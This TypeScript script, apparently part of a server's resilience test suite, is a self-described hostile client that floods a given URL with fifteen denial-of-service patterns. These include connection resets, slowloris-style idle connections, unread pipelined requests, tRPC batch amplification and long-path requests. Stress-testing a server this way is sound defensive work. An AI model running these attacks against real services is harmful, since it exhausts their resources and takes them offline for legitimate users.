// A hostile client, run as its own process: node attacker.ts <attack> <url> <milliseconds> [local address]
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const [attack = '', url = '', duration = '', localAddress = '127.0.0.1'] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const until = performance.now() + Number(duration);
const isOver = () => performance.now() > until;

const get = (target: string) => `GET ${target} HTTP/1.1\r\nHost: x\r\n\r\n`;
const batch = (procedure: string, size: number) => get(`/trpc/${Array(size).fill(procedure).join(',')}?batch=1`);

/** @param onConnect called once the bytes can be sent */
function open(bytes: string, onConnect: (socket: Socket) => void = () => {}): Socket {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.on('error', () => {});
  socket.on('connect', () => {
    socket.write(bytes);
    onConnect(socket);
  });
  return socket;
}

/** Opens connections together, again and again; each is reset a while after it has sent. */
async function burst(count: number, bytes: string, resetAfterMs: number, everyMs: number): Promise<void> {
  while (!isOver()) {
    for (let index = 0; index < count; index += 1) {
      open(bytes, (socket) => setTimeout(() => socket.resetAndDestroy(), resetAfterMs));
    }
    await sleep(everyMs);
  }
}

/** Connections that are kept, their answers read or not. */
async function keep(count: number, bytes: string, isRead: boolean): Promise<void> {
  for (let index = 0; index < count; index += 1) open(bytes, (socket) => (isRead ? socket.resume() : socket.pause()));
  while (!isOver()) await sleep(50);
}

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  'resets of CONNECT': () => burst(20, 'CONNECT a:443 HTTP/1.1\r\n\r\n', 0, 50),
  'resets of half requests': () => burst(20, 'POST /products HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{', 1, 50),
  'lists whose clients leave': () => burst(300, get('/products?limit=1000'), 20, 400),
  'batches whose clients leave': () => burst(22, batch('products.list', 25), 20, 400),
  'pipelined batches of sleepers': () => keep(2, batch('diagnostics.slow', 25).repeat(1_000), true),
  'sleepers on one connection': () => keep(1, get('/slow').repeat(10_000), true),
  'sleepers on many connections of another address': () => keep(125, get('/slow').repeat(16), true),
  'pipelined lists that nobody reads': () => keep(1, get('/products').repeat(2_000), false),
  'lists on many connections that nobody reads': () => keep(40, get('/products').repeat(4), false),
  'heads of long lists': () => burst(10, 'HEAD /products HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(4), 200, 100),
  'scrapes at once': () => burst(100, get('/metrics').repeat(2), 300, 200),
  'long paths': () => burst(10, get(`/${'x'.repeat(15_000)}`), 100, 100),
  'batches of errors': () => burst(10, batch('diagnostics.error', 25), 200, 100),
  'connections that never ask': () => keep(300, '', true),
  'tunnels that are never closed': () => keep(300, 'CONNECT a:443 HTTP/1.1\r\n\r\n', true),
};

await attacks[attack]?.();
process.exit(attacks[attack] === undefined ? 1 : 0);
